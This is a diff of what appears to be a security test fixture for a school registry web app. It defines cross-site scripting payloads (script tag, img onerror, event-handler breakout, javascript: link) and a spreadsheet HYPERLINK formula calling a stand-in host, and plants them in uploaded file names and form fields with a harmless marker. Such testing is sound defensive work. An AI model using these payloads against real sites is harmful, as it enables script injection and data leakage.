@@ -10,7 +10,7 @@ import { addSchool, csvOf, enrolTeachers } from '../setup/registry.ts';
 export const mark = 'ran=7';
 
 const script = `<script>window.${mark}</script>`;
-const image = `'><img src=x onerror="window.${mark}">`;
+const image = `'><img src=x onerror=window.${mark}>`;
 const handler = `x" onmouseover="window.${mark}" autofocus onfocus="window.${mark}`;
 const link = `javascript:window.${mark}`;
 const formula = `=HYPERLINK("https://elsewhere.example/?${mark}")`;
@@ -63,7 +63,7 @@ export async function plant(web: Web, { campaign, sets, teacher }: World): Promi
     ...{ stage: '小学', subject: '数学', is_rural: 'no', effective_date: '2022-07-01' },
   };
   const sent: Readonly<Record<string, Promise<{ status: number }>>> = {
-    file: neighbour.upload(Uint8Array.from(csvOf(rows)), `${script}.csv`),
+    file: neighbour.upload(Uint8Array.from(csvOf(rows)), `${image}.csv`),
     bundle: county.upload(Uint8Array.from(archive), `${image}.zip`, {}, '/bundles'),
     unit: county.post('/units', { parent: places.county.unit.id, name: script, code: '2137000018', ...unit }),
     account: county.post('/accounts', {
